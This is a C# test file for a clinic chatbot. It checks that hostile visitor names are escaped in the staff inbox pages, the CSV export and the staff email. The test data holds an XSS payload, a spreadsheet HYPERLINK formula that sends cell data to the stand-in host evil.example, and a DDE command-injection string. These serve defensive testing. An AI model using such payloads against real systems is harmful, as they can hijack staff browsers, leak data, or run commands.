using System.Net;
using Bot.Tests.Handoff;
using Bot.Tests.Infrastructure;
using static Bot.Tests.Handoff.HandoffTestKit;

namespace Bot.Tests.Staff;

/// <summary>A visitor's name is theirs to type: markup and spreadsheet formulas in it stay inert wherever staff see it.</summary>
public class HostileNameTests
{
    private const string ScriptName = "<script>alert('inbox')</script><img src=x onerror=alert(2)>";
    private const string FormulaName = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";

    [Fact]
    public async Task MarkupInANameIsShownAsTextInTheInboxPages()
    {
        await using var app = new BotApplication(Settings());
        var receipt = await app.SubmitAsync(Submission() with { Name = ScriptName });
        var staff = await StaffBrowser.SignInAsync(app, StaffUser, StaffPassword);

        var (_, list) = await staff.GetAsync("/staff");
        var (_, detail) = await staff.GetAsync($"/staff/requests/{receipt.Id}");
        foreach (var html in new[] { list, detail })
        {
            Assert.DoesNotContain("<script>alert", html);
            Assert.DoesNotContain("<img src=x", html);
            Assert.Contains("&lt;script&gt;alert(", html);
        }
        var headers = (await staff.Client.GetAsync("/staff")).Headers;
        Assert.Contains("default-src 'none'", headers.GetValues("Content-Security-Policy").Single());
    }

    [Fact]
    public async Task AFormulaInANameIsTextInTheCsvExport()
    {
        await using var app = new BotApplication(Settings());
        await app.SubmitAsync(Submission() with { Name = FormulaName, BestTime = "@SUM(1+1)*cmd|' /C calc'!A0" });
        var staff = await StaffBrowser.SignInAsync(app, StaffUser, StaffPassword);

        var csv = await staff.Client.GetStringAsync("/staff/export.csv");
        var row = csv.Split("\r\n")[1];
        Assert.Contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\"", row);
        Assert.Contains(",'@SUM(1+1)", row);
        Assert.DoesNotContain(",=HYPERLINK", row);
        Assert.DoesNotContain(",\"=HYPERLINK", row);
    }

    [Fact]
    public async Task TheStaffEmailIsPlainTextSoMarkupInANameNeverRenders()
    {
        var to = $"staff-{Guid.NewGuid():n}@clinic.test";
        await using var app = new BotApplication(Settings(
            ("Handoff:Email:Host", "127.0.0.1"), ("Handoff:Email:Port", MailCatcher.SmtpPort), ("Handoff:Email:UseTls", "false"),
            ("Handoff:Email:From", "bot@clinic.test"), ("Handoff:Email:To", to), ("Handoff:Email:IncludeContactDetails", "true")));
        await app.SubmitAsync(Submission() with { Name = ScriptName });

        await WaitUntilAsync(async () => (await MailCatcher.MessagesToAsync(to)).Count > 0, TimeSpan.FromSeconds(20), "the staff email");
        var mail = Assert.Single(await MailCatcher.MessagesToAsync(to));
        Assert.Contains(ScriptName, mail.GetProperty("text").GetString());
        Assert.False(mail.TryGetProperty("html", out var html) && html.ValueKind == System.Text.Json.JsonValueKind.String && html.GetString()!.Length > 0,
            "the email has no HTML part for a mail client to render");
    }
}
